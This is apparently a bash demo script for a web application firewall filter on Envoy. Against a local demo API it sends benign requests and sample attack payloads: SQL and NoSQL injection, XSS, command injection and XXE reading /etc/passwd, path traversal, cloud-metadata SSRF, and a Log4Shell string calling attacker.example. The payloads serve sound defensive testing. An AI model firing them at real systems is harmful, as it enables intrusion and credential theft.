#!/usr/bin/env bash
# The vigil demo: the demo API behind Envoy with the vigil filter, connected to the control plane
# (`vigil serve`). A scripted mix of benign and attack requests, then the loop: push a rule, see
# every request path enforce it, query and tail the events; then the stats.
# Run it with `make demo` (which builds everything first).
# Then the behaviour scenarios (examples/scenarios/) against two edges, with fleet detection.
# Ports: gateways 127.0.0.1:10000 and :10001, Envoy admin :9901 and :9902, demo API :8080,
# control plane :18000 (+ :18001 metrics).
set -euo pipefail
cd "$(dirname "$0")/.."

ENVOY_BIN=${ENVOY_BIN:-.tools/envoy/envoy/_bin/envoy}
RUN=.run/demo
mkdir -p "$RUN"
GATEWAY=http://127.0.0.1:10000
ADMIN=http://127.0.0.1:9901
pids=()

cleanup() {
  trap - INT TERM EXIT
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  wait 2>/dev/null || true
  echo "stopped (logs in $RUN/)"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

for port in 8080 9901 9902 10000 10001 18000 18001; do
  if (exec 3<>/dev/tcp/127.0.0.1/$port) 2>/dev/null; then
    echo "port $port on 127.0.0.1 is in use; stop whatever holds it and retry" >&2
    exit 1
  fi
done

VIGIL=target/debug/vigil
ADMIN_TOKEN=$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
NODE_TOKEN=$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
printf '%s' "$NODE_TOKEN" >"$RUN/node.token"
rm -f "$RUN/vigil.db"*
cat >"$RUN/vigil.toml" <<TOML
listen = "127.0.0.1:18000"
metrics_listen = "127.0.0.1:18001"
database = "vigil.db"
[auth]
admin_tokens = ["$ADMIN_TOKEN"]
node_tokens = ["$NODE_TOKEN"]
TOML
export VIGIL_TOKEN=$ADMIN_TOKEN VIGIL_SERVER=http://127.0.0.1:18000

target/debug/vigil-demo-api --listen 127.0.0.1:8080 --quiet >"$RUN/api.log" 2>&1 &
pids+=($!)
"$VIGIL" serve --config "$RUN/vigil.toml" >"$RUN/serve.log" 2>&1 &
pids+=($!)
"$VIGIL" envoy-config --node-id demo-edge --token-file "$RUN/node.token" --upstream 127.0.0.1:8080 >"$RUN/envoy.yaml"
"$ENVOY_BIN" -c "$RUN/envoy.yaml" --concurrency 2 --disable-hot-restart --log-level warn >"$RUN/envoy.log" 2>&1 &
pids+=($!)
# A second edge, as in a fleet: attacks spread over both are caught by the control plane.
"$VIGIL" envoy-config --node-id demo-edge-b --token-file "$RUN/node.token" --upstream 127.0.0.1:8080 \
  --listen 127.0.0.1:10001 --admin 127.0.0.1:9902 >"$RUN/envoy-b.yaml"
"$ENVOY_BIN" -c "$RUN/envoy-b.yaml" --concurrency 1 --disable-hot-restart --base-id 2 --log-level warn >"$RUN/envoy-b.log" 2>&1 &
pids+=($!)

# Poll for readiness (never a fixed sleep): Envoy's /ready and the API behind it.
for _ in $(seq 1 200); do
  if curl -fsS "$ADMIN/ready" >/dev/null 2>&1 && curl -fsS "$GATEWAY/health" >/dev/null 2>&1 \
    && curl -fsS "http://127.0.0.1:10001/health" >/dev/null 2>&1; then break; fi
  if ! kill -0 "${pids[2]}" 2>/dev/null; then echo "Envoy exited:"; tail -20 "$RUN/envoy.log"; exit 1; fi
  sleep 0.05
done

printf '\n%-7s %-6s %-44s %s\n' "result" "status" "request" "detail"
printf '%s\n' "-----------------------------------------------------------------------------------------------"
send() { # label method path [curl args...]
  local label=$1 method=$2 path=$3; shift 3
  local out status body
  out=$(curl -sS -o "$RUN/body" -w '%{http_code}' -X "$method" "$GATEWAY$path" "$@" || true)
  status=$out; body=$(head -c 300 "$RUN/body")
  if [ "$status" = 403 ]; then
    local rule; rule=$(sed -n 's/.*"rule":"\([^"]*\)".*/\1/p' <<<"$body")
    printf '\033[31m%-7s\033[0m %-6s %-44s %s\n' BLOCK "$status" "$method ${path:0:38}" "$label -> rule $rule"
  else
    printf '\033[32m%-7s\033[0m %-6s %-44s %s\n' ALLOW "$status" "$method ${path:0:38}" "$label"
  fi
}
json=(-H 'content-type: application/json')
send "benign: user profile"            GET  "/users/1"
send "benign: search for O'Brien"      GET  "/search?q=O%27Brien"
send "benign: prose with SQL words"    GET  "/search?q=select%20the%20best%20plan%20from%20our%20list"
send "benign: login (form)"            POST "/login" -d 'username=alice&password=wonderland'
send "benign: order with markdown"     POST "/orders" "${json[@]}" -d '{"item":"book","note":"Deliver to **door 2**, <b>fragile</b>"}'
send "benign: GraphQL-shaped body"     POST "/comments" "${json[@]}" -d '{"query":"query { user(id: 1) { name orders { id } } }"}'
send "sqli: tautology in query"        GET  "/search?q=1%27%20OR%20%271%27%3D%271"
send "sqli: double-encoded UNION"      GET  "/search?q=1%2520UNION%2520SELECT%2520password%2520FROM%2520users"
send "xss: script in JSON body"        POST "/comments" "${json[@]}" -d '{"text":"\u003cscript\u003ealert(document.cookie)\u003c/script\u003e"}'
send "cmdi: chained command"           GET  "/search?q=x%3B%20cat%20%2Fetc%2Fpasswd"
send "path traversal"                  GET  "/export?file=..%2F..%2F..%2Fetc%2Fshadow"
send "ssrf: cloud metadata"            POST "/orders" "${json[@]}" -d '{"webhook":"http://169.254.169.254/latest/meta-data/"}'
send "log4shell in a header"           GET  "/users/2" -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}'
send "nosqli: operator login"          POST "/login" "${json[@]}" -d '{"username":{"$ne":null},"password":{"$ne":null}}'
send "xxe: external entity"            POST "/upload" -H 'content-type: application/xml' -d '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
send "ssti: template expression"       GET  "/search?q=%7B%7B7*7%7D%7D"
send "scanner user agent"              GET  "/users" -A 'sqlmap/1.7.2#stable (https://sqlmap.org)'
send "jwt: alg none"                   GET  "/orders" -H 'Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhbGljZSIsInJvbGUiOiJhZG1pbiJ9.'

echo
echo "== The loop: a rule author pushes a new rule; the edge enforces it at once =="
send "before the push: ?debug=1"         GET  "/users/1?debug=1"
start=$(date +%s%N)
"$VIGIL" policy push examples/policies/demo-push.yaml --comment "demo: block debug switches"
until [ "$(curl -s -o /dev/null -w '%{http_code}' "$GATEWAY/users/1?debug=1")" = 403 ]; do
  if [ $(( ($(date +%s%N) - start) / 1000000 )) -gt 5000 ]; then echo "not enforced after 5 s"; break; fi
  sleep 0.01
done
echo "enforced $(( ($(date +%s%N) - start) / 1000000 )) ms after \`vigil policy push\` started"
send "after the push: ?debug=1"          GET  "/users/1?debug=1"
echo
"$VIGIL" nodes
echo
echo "== vigil events tail (live) while two more attacks arrive =="
"$VIGIL" events tail >"$RUN/tail.out" 2>&1 &
tail_pid=$!
pids+=($tail_pid)
for _ in $(seq 1 100); do "$VIGIL" nodes >/dev/null 2>&1 && break; sleep 0.02; done
send "xss in a header"                  GET  "/users/3" -H 'X-Forwarded-For: <svg onload=alert(1)>'
send "sqli in a form"                   POST "/login" -d "username=admin%27--&password=x"
for _ in $(seq 1 200); do [ "$(wc -l <"$RUN/tail.out")" -ge 2 ] && break; sleep 0.02; done
kill "$tail_pid" 2>/dev/null || true
cat "$RUN/tail.out"
echo
echo "== vigil events query --limit 8 =="
"$VIGIL" events query --limit 8

echo
echo "== Behaviour: attacks that look harmless one request at a time (examples/scenarios/) =="
pushed=$("$VIGIL" policy push examples/policies/behaviour.yaml --comment "demo: behaviour detectors")
echo "$pushed"
version=$(awk '{print $3}' <<<"$pushed")
for _ in $(seq 1 200); do
  [ "$("$VIGIL" nodes --json | grep -c "\"applied_version\":\"$version\"")" = 2 ] && break
  sleep 0.02
done
GATEWAYS="$GATEWAY http://127.0.0.1:10001" examples/scenarios/run-all.sh
echo
echo "== vigil blocks list (fleet blocks pushed to every edge) =="
"$VIGIL" blocks list
echo
echo "Envoy stats (admin $ADMIN/stats/prometheus, vigil only):"
curl -fsS "$ADMIN/stats/prometheus" | grep -E '^vigil_' | grep -v ' 0$' | sed 's/^/  /'

if [ -t 0 ] && [ -z "${VIGIL_DEMO_EXIT:-}" ]; then
  echo
  echo "Gateway on $GATEWAY (try: curl '$GATEWAY/search?q=%3Cscript%3E'). Ctrl-C to stop."
  wait "${pids[2]}"
fi
